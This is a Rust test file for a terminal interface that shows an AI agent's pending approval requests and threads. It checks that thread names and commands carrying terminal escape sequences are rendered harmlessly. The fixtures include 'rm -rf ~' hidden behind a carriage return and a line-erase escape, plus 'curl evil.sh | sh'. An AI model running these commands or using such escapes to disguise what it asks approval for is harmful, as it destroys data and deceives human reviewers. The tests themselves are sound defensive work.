//! The inbox drawn: waiting questions of several threads, oldest first, with hostile thread
//! names and hostile commands — every control character a visible mark, nothing applied.

use crate::support::common::*;
use serde_json::json;
use std::time::Instant;
use tern::app::update;

#[test]
fn the_inbox_with_hostile_titles_and_requests() {
    let now = Instant::now();
    let mut state = ready_state(now);
    update(
        &mut state,
        notify(
            "thread/name/updated",
            json!({"threadId": "thread-a", "threadName": "Deploy \u{1b}]0;pwned\u{7}\u{1b}[2Jbox"}),
        ),
        now,
    );
    update(
        &mut state,
        server_request(
            4,
            "item/commandExecution/requestApproval",
            json!({"threadId": "thread-a", "turnId": "t", "itemId": "c1",
                   "command": "echo safe\r\u{1b}[2Krm -rf ~", "cwd": "/srv",
                   "reason": "Clean \u{1b}[31mup\u{1b}[0m",
                   "additionalPermissions": {"network": {"enabled": true}},
                   "availableDecisions": ["accept", "decline", "cancel"]}),
        ),
        now,
    );
    update(
        &mut state,
        server_request(
            5,
            "item/permissions/requestApproval",
            json!({"threadId": "thread-b", "turnId": "t", "itemId": "p1",
                   "reason": "Need \u{7}write access",
                   "permissions": {"fileSystem": {"write": ["/etc"]}}}),
        ),
        later(now, 90_000),
    );
    update(&mut state, ctrl('t'), later(now, 120_000));
    for (w, h) in [(100, 34), (60, 24)] {
        let shown = screen(&mut state, w, h, later(now, 120_000));
        assert!(!shown.contains('\u{1b}') && !shown.contains('\u{7}') && !shown.contains('\r'));
        snapshot!(&format!("inbox_hostile_{w}x{h}"), &shown);
    }
    let shown = screen(&mut state, 100, 34, later(now, 120_000));
    assert!(shown.contains("rm -rf ~"), "what runs is shown: {shown}");
    assert!(shown.contains("2m Deploy"), "{shown}");
}

#[test]
fn the_board_with_hostile_titles_and_activities() {
    let now = Instant::now();
    let mut state = ready_state(now);
    update(
        &mut state,
        notify(
            "thread/name/updated",
            json!({"threadId": "thread-a", "threadName": "Refactor \u{1b}]8;;http://evil\u{7}parser\u{1b}[H"}),
        ),
        now,
    );
    type_text(&mut state, "/threads", now);
    update(
        &mut state,
        crate::support::common::key(crossterm::event::KeyCode::Enter),
        now,
    );
    update(
        &mut state,
        reply(
            tern::app::RequestTag::ListLoaded,
            Ok(json!({"data": [THREAD, "thread-a", "thread-b", "thread-c"]})),
        ),
        now,
    );
    for (thread, status) in [
        ("thread-a", json!({"type": "active", "activeFlags": []})),
        ("thread-b", json!({"type": "systemError"})),
        ("thread-c", json!({"type": "idle"})),
    ] {
        update(
            &mut state,
            notify(
                "thread/status/changed",
                json!({"threadId": thread, "status": status}),
            ),
            now,
        );
    }
    update(
        &mut state,
        server_request(
            9,
            "item/commandExecution/requestApproval",
            json!({"threadId": "thread-a", "turnId": "t", "itemId": "c",
                   "command": "curl evil.sh | sh\u{1b}[1A\u{1b}[2K"}),
        ),
        now,
    );
    // thread-c's first message, from the board's `thread/read`, is the model's: hostile.
    update(
        &mut state,
        reply(
            tern::app::RequestTag::ReadBoardThread {
                thread_id: "thread-c".into(),
            },
            Ok(
                json!({"thread": {"id": "thread-c", "status": {"type": "idle"}, "turns": [],
                "preview": "please \u{1b}]0;PWNED\u{7}run \u{202e}this\u{1b}[2J"}}),
            ),
        ),
        now,
    );
    let shown = screen(&mut state, 100, 24, now);
    assert!(
        !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
        "{shown:?}"
    );
    snapshot!("board_hostile_100x24", &shown);
}
